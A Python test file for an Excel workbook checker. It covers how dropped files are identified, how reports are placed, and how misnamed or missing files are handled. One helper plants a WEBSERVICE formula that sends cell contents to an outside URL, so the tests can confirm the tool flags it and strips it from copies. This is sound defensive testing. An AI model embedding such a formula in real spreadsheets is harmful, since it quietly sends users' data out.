"""待检查: each file is checked as what its headers say, or named with the reason why not."""

import shutil

import openpyxl
import pytest

from tests.steps.helpers import contents, sentence
from xlcheck.excel.read.active import active_things
from xlcheck.messages import Level
from xlcheck.schema.inputs import ENTITY_BOOK, INPUT_BOOKS, INSPECTOR_BOOK, PLAN_BOOK
from xlcheck.steps.check.check import check
from xlcheck.steps.check.drop import RESULTS, check_dropped, inbox
from xlcheck.steps.practice.sample import PRINTED_PLAN


@pytest.fixture
def folder(run):
    made = inbox(run.desk)
    made.mkdir()
    return made


def test_every_kind_of_book_is_known_by_its_content(run, folder):
    for number, book in enumerate(INPUT_BOOKS):
        shutil.copy(run.desk.book(book), folder / f"来件{number}.xlsx")
    before = contents(folder)
    dropped = check_dropped(run)
    assert [one.trouble for one in dropped] == [""] * len(INPUT_BOOKS)
    assert all(one.checked.report.parent == folder / RESULTS for one in dropped)
    assert all(f.place.book == one.path.name for one in dropped for f in one.checked.findings)
    assert contents(folder, but=(RESULTS,)) == before
    assert not run.desk.checks.exists()


def test_errors_are_those_of_a_check_of_the_book_alone(run, folder):
    shutil.copy(run.desk.root / PRINTED_PLAN, folder)
    (one,) = check_dropped(run)
    assert one.checked.count(Level.ERROR) == 26


def test_what_fits_no_table_is_named_and_the_rest_is_checked(desk):
    run, _, ledger = desk
    folder = inbox(run.desk)
    (folder / "下级").mkdir(parents=True)
    shutil.copy(ledger, folder / "台账.xlsx")
    shutil.copy(run.desk.book(PLAN_BOOK), folder / "下级" / "计划.xlsx")
    (folder / "照片.jpg").write_bytes(b"no workbook")
    (folder / "~$计划.xlsx").write_bytes(b"lock")
    (folder / "说明.txt").write_text("说明", "utf-8")
    dropped = {one.path.name: one for one in check_dropped(run)}
    assert set(dropped) == {"台账.xlsx", "计划.xlsx", "照片.jpg"}
    assert "不像是计划" in dropped["台账.xlsx"].trouble
    assert "照片.jpg" in dropped["照片.jpg"].trouble
    assert dropped["计划.xlsx"].checked.report.parent == folder / RESULTS / "下级"
    assert len(check_dropped(run)) == 3


def test_book_under_the_name_of_another__error(run, folder):
    path = folder / PLAN_BOOK.filename
    shutil.copy(run.desk.book(ENTITY_BOOK), path)
    assert "请改名" in check_dropped(run)[0].trouble
    assert "请改名" in sentence(check, run, path)


def test_files_of_one_name_have_a_report_each(run, folder, tmp_path):
    paths = [tmp_path / name for name in ("甲/计划.xlsx", "乙/计划.xlsx", "乙/计划.xlsm")]
    for path in paths:
        path.parent.mkdir(exist_ok=True)
        shutil.copy(run.desk.root / PRINTED_PLAN, path)
    dropped = check_dropped(run, paths)
    results = [file for one in dropped for file in (one.checked.report, *one.checked.copies)]
    assert len(set(results)) == len(results) > len(paths)
    assert set(results) == {path for path in folder.rglob("*") if path.is_file()}


def test_file_that_is_not_there_is_named_and_the_rest_is_checked(run, tmp_path):
    shutil.copy(run.desk.book(INSPECTOR_BOOK), tmp_path / "人员.xlsx")
    lost, found = check_dropped(run, [tmp_path / "甲", tmp_path / "人员.xlsx"])
    assert f"找不到 {tmp_path / '甲'}" in lost.trouble
    assert found.checked is not None


def test_files_from_elsewhere_are_reported_in_the_folder(run, tmp_path):
    shutil.copy(run.desk.book(INSPECTOR_BOOK), tmp_path / "人员.xlsx")
    (one,) = check_dropped(run, [tmp_path / "人员.xlsx"])
    assert one.checked.report.parent == inbox(run.desk) / RESULTS


def hostile(path, name="来件.xlsx"):
    """A plan as somebody sent it, with a formula that calls outside."""
    book = openpyxl.load_workbook(path)
    book.worksheets[0]["Z2"] = '=WEBSERVICE("https://example.org/?"&A1)'
    out = path.parent / name
    book.save(out)
    return out


def test_what_acts_by_itself_is_told_and_is_in_no_copy(run, folder):
    shutil.move(hostile(run.desk.book(PLAN_BOOK)), folder / "来件.xlsx")
    before = (folder / "来件.xlsx").read_bytes()
    (one,) = check_dropped(run)
    assert [f.place.cell for f in one.checked.findings if f.code == "book.calls-outside"] == ["Z2"]
    (copy,) = one.checked.copies
    assert active_things(copy) == ()
    assert active_things(folder / "来件.xlsx")
    assert (folder / "来件.xlsx").read_bytes() == before
    assert not list(copy.parent.glob(".*"))


def test_own_copies_keep_everything(run):
    path = run.desk.book(PLAN_BOOK)
    shutil.move(hostile(path), path)
    checked = check(run)
    assert "book.calls-outside" not in {f.code for f in checked.findings}
    marked = [copy for copy in checked.copies if PLAN_BOOK.filename in copy.name]
    assert all(active_things(copy) for copy in marked)
